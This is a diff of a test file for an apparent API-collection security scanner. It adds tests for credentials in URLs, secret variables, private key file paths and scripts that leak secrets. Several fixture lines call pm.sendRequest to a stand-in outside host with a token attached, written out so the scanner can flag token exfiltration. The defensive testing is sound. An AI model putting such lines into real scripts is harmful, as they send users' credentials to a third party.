@@ -228,6 +228,11 @@ describe('posture', () => {
   const rules = (findings: readonly Finding[]) =>
     findings.filter(({ family }) => family === 'posture').map(({ ruleId }) => ruleId);
 
+  const places = (findings: readonly Finding[]) =>
+    findings
+      .filter(({ family }) => family === 'posture')
+      .map(({ ruleId, status, occurrences }) => [ruleId, status, occurrences.map(({ pointer }) => pointer)]);
+
   test('a credential over plain http, but not to this machine', () => {
     const to = (url: string) => scan({ 'c.json': collection([item('Get', { ...bearer(SECRET), url })]) });
     expect(rules(to('http://api.shop.test/x').findings)).toEqual(['posture-credentials-over-http']);
@@ -235,21 +240,72 @@ describe('posture', () => {
     expect(rules(to('https://api.shop.test/x').findings)).toEqual([]);
   });
 
-  test('a credential in a url', () => {
-    const url = { raw: 'https://api.shop.test/x', query: [{ key: 'api_key', value: buildFake('<32 alnum>', 9) }] };
-    const { findings } = scan({ 'c.json': collection([item('Get', { url })]) });
-    expect(rules(findings)).toEqual(['posture-credentials-in-url']);
-    const [posture] = findings.filter(({ family }) => family === 'posture');
-    expect(posture).toMatchObject({ severity: 'info', secret: null, preview: '' });
-    expect(posture!.fingerprint).toMatch(/^pw1_[0-9a-f]{32}$/);
+  describe('a credential in a url', () => {
+    const KEY = buildFake('<32 alnum>', 9);
+    const withKey = (key = KEY) => ({
+      url: { raw: `https://api.shop.test/x?api_key=${key}`, query: [{ key: 'api_key', value: key }] },
+    });
+
+    test('is told once of what stands in the url and in the list of its parameters', () => {
+      const { findings } = scan({ 'c.json': collection([item('Get', withKey())]) });
+      expect(places(findings)).toEqual([['posture-credentials-in-url', 'new', ['/item/0/request/url/raw']]]);
+      const [posture] = findings.filter(({ family }) => family === 'posture');
+      expect(posture).toMatchObject({ severity: 'info', secret: null, preview: '' });
+      expect(posture!.fingerprint).toMatch(/^pw1_[0-9a-f]{32}$/);
+    });
+
+    test('is one finding a file, with a place for each request', () => {
+      const requests = [item('Get', withKey()), item('Post', withKey())];
+      const { findings } = scan({ 'a.json': collection(requests), 'b.json': collection(requests.slice(1)) });
+      expect(places(findings)).toEqual([
+        ['posture-credentials-in-url', 'new', ['/item/0/request/url/raw', '/item/1/request/url/raw']],
+        ['posture-credentials-in-url', 'new', ['/item/0/request/url/raw']],
+      ]);
+    });
+
+    test('names the new places alone if there are some', () => {
+      const old = item('Get', withKey());
+      const base = { 'c.json': collection([old]) };
+      const added = item('Post', withKey(buildFake('<32 alnum>', 10)));
+      expect(places(scan({ 'c.json': collection([old]) }, { base }).findings)).toEqual([
+        ['posture-credentials-in-url', 'existing', ['/item/0/request/url/raw']],
+      ]);
+      expect(places(scan({ 'c.json': collection([old, added]) }, { base }).findings)).toEqual([
+        ['posture-credentials-in-url', 'new', ['/item/1/request/url/raw']],
+      ]);
+    });
+
+    test('is not told of a link that a saved answer holds', () => {
+      const body = JSON.stringify({ next: `http://api.shop.test/x?api_key=${KEY}` });
+      const answered = { ...(item('Get', {}) as object), response: [{ name: 'ok', body }] };
+      const { findings } = scan({ 'c.json': collection([answered]) });
+      expect(credentials(findings)).toHaveLength(1);
+      expect(rules(findings)).toEqual([]);
+    });
   });
 
-  test('a secret variable that is not marked, and one that is', () => {
-    const password = { password: SECRET };
-    expect(rules(scan({ 'e.json': environment(password) }).findings)).toEqual(['posture-secret-variable-not-marked']);
-    expect(rules(scan({ 'e.json': environment(password, 'secret') }).findings)).toEqual([
-      'posture-secret-type-plaintext',
-    ]);
+  test.each([
+    ['a reference', '{{vault:token}}', []],
+    ['what is to be filled in', '<your token>', []],
+    ['nothing', '', []],
+    ['a credential, of which a finding tells already', SECRET, []],
+    ['what no rule knows', 'Kestrel', ['posture-secret-type-plaintext']],
+  ])('a variable of type secret that holds %s', (_, value, expected) => {
+    expect(rules(scan({ 'e.json': environment({ region: value }, 'secret') }).findings)).toEqual(expected);
+  });
+
+  test.each([
+    ['/home/ann/certs/client.pem', ['posture-private-certificate-path']],
+    ['C:\\keys\\id_rsa', ['posture-private-certificate-path']],
+    ['/home/ann/public/server.key', ['posture-private-certificate-path']],
+    ['/home/ann/certs/fullchain.pem', []],
+    ['/home/ann/certs/pubkey.pem', []],
+    ['/home/ann/certs/rsa_public.pem', []],
+    ['/home/ann/certs/ca.pem', []],
+    ['/home/ann/certs/photo.png', []],
+  ])('the file %s', (src, expected) => {
+    const body = { mode: 'formdata', formdata: [{ key: 'file', type: 'file', src }] };
+    expect(rules(scan({ 'c.json': collection([item('Upload', { body })]) }).findings)).toEqual(expected);
   });
 
   describe('of scripts', () => {
@@ -266,11 +322,31 @@ describe('posture', () => {
     });
 
     test.each([
-      ['https://elsewhere.test/x', ['posture-script-sends-elsewhere']],
-      ['https://api.shop.test/x', []],
-      ['{{unknown}}/x', []],
-    ])('one that sends to %s', (url, expected) => {
-      expect(withScript(`pm.sendRequest('${url}', () => {});`)).toEqual(expected);
+      [`console.log(\`token: \${token}\`)`, true],
+      ['console.log(email, newEmail, pass)', true],
+      ['console.info(data.apiKey)', true],
+      [`console.log(\`\${key} = \${value}\`)`, false],
+      ['console.log("Rate key: " + rateKey)', false],
+      ['console.log(tokenType, nextPageToken)', false],
+      ['console.log("token")', false],
+    ])('%s', (code, isTold) => {
+      expect(withScript(code)).toEqual(isTold ? ['posture-script-prints-secret'] : []);
+    });
+
+    test.each([
+      ["pm.sendRequest('https://elsewhere.test/x' + token, () => {});", true],
+      [`pm.sendRequest(\`https://elsewhere.test/x?t=\${token}\`, () => {});`, true],
+      ["pm.sendRequest({ url: 'https://elsewhere.test/x', method: 'POST' }, () => {});", true],
+      ["pm.sendRequest({ url: 'https://elsewhere.test/x', header: { 'X-T': token } }, () => {});", true],
+      ["pm.sendRequest({ header: { 'X-T': token }, url: 'https://elsewhere.test/x' }, () => {});", true],
+      ["pm.sendRequest({ url: 'https://elsewhere.test/x' + token }, () => {});", true],
+      ["pm.sendRequest({ url: 'https://elsewhere.test/x', method: 'GET' }, () => {});", false],
+      ["pm.sendRequest({ url: 'https://elsewhere.test/x' }, () => {});", false],
+      ["pm.sendRequest('https://elsewhere.test/lib.js', () => {});", false],
+      ["pm.sendRequest('https://api.shop.test/x' + token, () => {});", false],
+      ["pm.sendRequest('{{unknown}}/x' + token, () => {});", false],
+    ])('one that has %s', (code, isTold) => {
+      expect(withScript(code)).toEqual(isTold ? ['posture-script-sends-elsewhere'] : []);
     });
 
     test('is not read if scripts are left out', () => {
